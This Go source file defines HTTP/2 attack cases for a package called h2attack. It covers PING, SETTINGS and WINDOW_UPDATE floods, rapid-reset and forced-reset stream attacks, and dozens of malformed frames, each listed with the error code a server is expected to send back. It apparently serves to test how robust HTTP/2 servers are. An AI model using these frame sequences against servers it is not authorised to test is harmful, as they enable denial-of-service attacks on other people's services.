package h2attack

import (
	"bytes"

	"golang.org/x/net/http2"
)

// floods are large numbers of frames without content.
func floods() []Attack {
	return []Attack{
		ends("PING", often(func(c *client) { c.raw(http2.FramePing, 0, 0, make([]byte, 8)...) })),
		ends("PING ACK", often(func(c *client) { c.raw(http2.FramePing, http2.FlagPingAck, 0, make([]byte, 8)...) })),
		ends("SETTINGS", often(func(c *client) { c.raw(http2.FrameSettings, 0, 0) })),
		ends("SETTINGS with values", often(func(c *client) { c.raw(http2.FrameSettings, 0, 0, bytes.Repeat([]byte{0, 3, 0, 0, 0, 9}, 200)...) })),
		ends("window size to and fro", often(func(c *client) { c.raw(http2.FrameSettings, 0, 0, 0, 4, 0, 0, 0, 0, 0, 4, 0, 0, 255, 255) })),
		ends("PRIORITY", often(func(c *client) { c.raw(http2.FramePriority, 0, 1, 0, 0, 0, 0, 1) })),
		ends("WINDOW_UPDATE", often(func(c *client) { c.raw(http2.FrameWindowUpdate, 0, 0, 0, 0, 0, 1) })),
		ends("WINDOW_UPDATE of a stream", func(c *client) {
			c.open(false)
			often(func(c *client) { c.raw(http2.FrameWindowUpdate, 0, 1, 0, 0, 0, 1) })(c)
		}),
		// After GOAWAY, the server may also close the connection because the client no longer needs it.
		ends("GOAWAY", often(func(c *client) { c.raw(http2.FrameGoAway, 0, 0, make([]byte, 8)...) }), http2.ErrCodeNo),
		ends("empty DATA", func(c *client) { c.open(false); often(func(c *client) { c.raw(http2.FrameData, 0, 1) })(c) }),
		ends("padding only", func(c *client) {
			c.open(false)
			often(func(c *client) { c.raw(http2.FrameData, http2.FlagDataPadded, 1, 3, 0, 0, 0) })(c)
		}),
		ends("unknown frames", often(func(c *client) { c.raw(0x77, 0, 0) })),
		ends("unknown frames of a stream", often(func(c *client) { c.raw(0x78, 255, 1, 1, 2, 3) })),
	}
}

// shortStreams are streams that end early.
func shortStreams() []Attack {
	return []Attack{
		ends("rapid reset", early(func(c *client, id uint32) { c.raw(http2.FrameRSTStream, 0, id, 0, 0, 0, 8) })),
		ends("made to reset: window 0", early(func(c *client, id uint32) { c.raw(http2.FrameWindowUpdate, 0, id, 0, 0, 0, 0) })),
		ends("made to reset: window too large", early(func(c *client, id uint32) { c.raw(http2.FrameWindowUpdate, 0, id, 0x7f, 255, 255, 255) })),
		// If the stream was refused, the frame is a connection error.
		ends("made to reset: PRIORITY", early(func(c *client, id uint32) { c.raw(http2.FramePriority, 0, id, 0) }), http2.ErrCodeFrameSize),
		ends("made to reset: a second header", early(func(c *client, id uint32) {
			c.raw(http2.FrameHeaders, http2.FlagHeadersEndHeaders, id, c.fields("a", "b")...)
		})),
		ends("made to reset: DATA behind the end", manyStreams(func(c *client) { c.raw(http2.FrameData, 0, c.open(true), 1) })),
		ends("made to reset: length", manyStreams(func(c *client) {
			c.raw(http2.FrameData, http2.FlagDataEndStream, c.open(false, "content-length", "7"), 1)
		})),
		ends("resets of closed streams", func(c *client) {
			c.open(true)
			often(func(c *client) { c.raw(http2.FrameRSTStream, 0, 1, 0, 0, 0, 8) })(c)
		}),
		{
			Name: "more streams than allowed", Codes: []http2.ErrCode{http2.ErrCodeEnhanceYourCalm}, Requests: true,
			frames: often(func(c *client) { c.open(false) }),
		},
	}
}

// brokenFrames are single frames that end a connection.
func brokenFrames() (list []Attack) {
	for _, f := range []struct {
		name    string
		code    http2.ErrCode
		kind    http2.FrameType
		flags   http2.Flags
		id      uint32
		payload []byte
	}{
		{"a frame that is too large", http2.ErrCodeFrameSize, http2.FrameData, 0, 1, make([]byte, 16385)},
		{"DATA on stream 0", http2.ErrCodeProtocol, http2.FrameData, 0, 0, []byte("a")},
		{"DATA on an idle stream", http2.ErrCodeProtocol, http2.FrameData, 0, 1, []byte("a")},
		{"HEADERS on stream 0", http2.ErrCodeProtocol, http2.FrameHeaders, 4, 0, nil},
		{"HEADERS on an even stream", http2.ErrCodeProtocol, http2.FrameHeaders, 4, 2, nil},
		{"HEADERS that are too short", http2.ErrCodeFrameSize, http2.FrameHeaders, 4 | 0x20, 1, []byte{0}},
		{"HEADERS with too much padding", http2.ErrCodeProtocol, http2.FrameHeaders, 4 | 8, 1, []byte{200, 0}},
		{"index 0", http2.ErrCodeCompression, http2.FrameHeaders, 4, 1, []byte{0x80}},
		{"an index beyond the table", http2.ErrCodeCompression, http2.FrameHeaders, 4, 1, []byte{0xff, 0xff, 0x7f}},
		{"an integer without an end", http2.ErrCodeCompression, http2.FrameHeaders, 4, 1, bytes.Repeat([]byte{0xff}, 50)},
		{"a table that is too large", http2.ErrCodeCompression, http2.FrameHeaders, 4, 1, []byte{0x3f, 0xff, 0xff, 0x7f}},
		{"bad Huffman code", http2.ErrCodeCompression, http2.FrameHeaders, 4, 1, []byte{0, 0x84, 0xff, 0xff, 0xff, 0xff, 0}},
		{"a string beyond the block", http2.ErrCodeCompression, http2.FrameHeaders, 4, 1, []byte{0, 0x7e, 'a'}},
		{"PRIORITY on stream 0", http2.ErrCodeProtocol, http2.FramePriority, 0, 0, make([]byte, 5)},
		{"PRIORITY of a bad length", http2.ErrCodeFrameSize, http2.FramePriority, 0, 1, make([]byte, 4)},
		{"RST_STREAM on stream 0", http2.ErrCodeProtocol, http2.FrameRSTStream, 0, 0, make([]byte, 4)},
		{"RST_STREAM on an idle stream", http2.ErrCodeProtocol, http2.FrameRSTStream, 0, 9, make([]byte, 4)},
		{"RST_STREAM of a bad length", http2.ErrCodeFrameSize, http2.FrameRSTStream, 0, 1, make([]byte, 5)},
		{"SETTINGS on a stream", http2.ErrCodeProtocol, http2.FrameSettings, 0, 1, nil},
		{"SETTINGS of a bad length", http2.ErrCodeFrameSize, http2.FrameSettings, 0, 0, make([]byte, 5)},
		{"SETTINGS ACK with a payload", http2.ErrCodeFrameSize, http2.FrameSettings, 1, 0, make([]byte, 6)},
		{"ENABLE_PUSH 2", http2.ErrCodeProtocol, http2.FrameSettings, 0, 0, []byte{0, 2, 0, 0, 0, 2}},
		{"MAX_FRAME_SIZE 0", http2.ErrCodeProtocol, http2.FrameSettings, 0, 0, []byte{0, 5, 0, 0, 0, 0}},
		{"MAX_FRAME_SIZE too large", http2.ErrCodeProtocol, http2.FrameSettings, 0, 0, []byte{0, 5, 255, 0, 0, 0}},
		{"INITIAL_WINDOW_SIZE too large", http2.ErrCodeFlowControl, http2.FrameSettings, 0, 0, []byte{0, 4, 255, 0, 0, 0}},
		{"PUSH_PROMISE", http2.ErrCodeProtocol, http2.FramePushPromise, 4, 1, make([]byte, 4)},
		{"PING on a stream", http2.ErrCodeProtocol, http2.FramePing, 0, 1, make([]byte, 8)},
		{"PING of a bad length", http2.ErrCodeFrameSize, http2.FramePing, 0, 0, make([]byte, 9)},
		{"GOAWAY on a stream", http2.ErrCodeProtocol, http2.FrameGoAway, 0, 1, make([]byte, 8)},
		{"GOAWAY of a bad length", http2.ErrCodeFrameSize, http2.FrameGoAway, 0, 0, make([]byte, 7)},
		{"WINDOW_UPDATE of a bad length", http2.ErrCodeFrameSize, http2.FrameWindowUpdate, 0, 0, make([]byte, 3)},
		{"WINDOW_UPDATE by 0", http2.ErrCodeProtocol, http2.FrameWindowUpdate, 0, 0, make([]byte, 4)},
		{"WINDOW_UPDATE on an idle stream", http2.ErrCodeProtocol, http2.FrameWindowUpdate, 0, 9, []byte{0, 0, 0, 1}},
		{"WINDOW_UPDATE beyond the largest", http2.ErrCodeFlowControl, http2.FrameWindowUpdate, 0, 0, []byte{0x7f, 255, 255, 255}},
		{"CONTINUATION without HEADERS", http2.ErrCodeProtocol, http2.FrameContinuation, 4, 1, nil},
		{"CONTINUATION without HEADERS, on 0", http2.ErrCodeProtocol, http2.FrameContinuation, 4, 0, nil},
	} {
		frames := func(c *client) { c.raw(f.kind, f.flags, f.id, f.payload...) }
		list = append(list, Attack{Name: f.name, Codes: []http2.ErrCode{f.code}, frames: frames})
	}
	return list
}
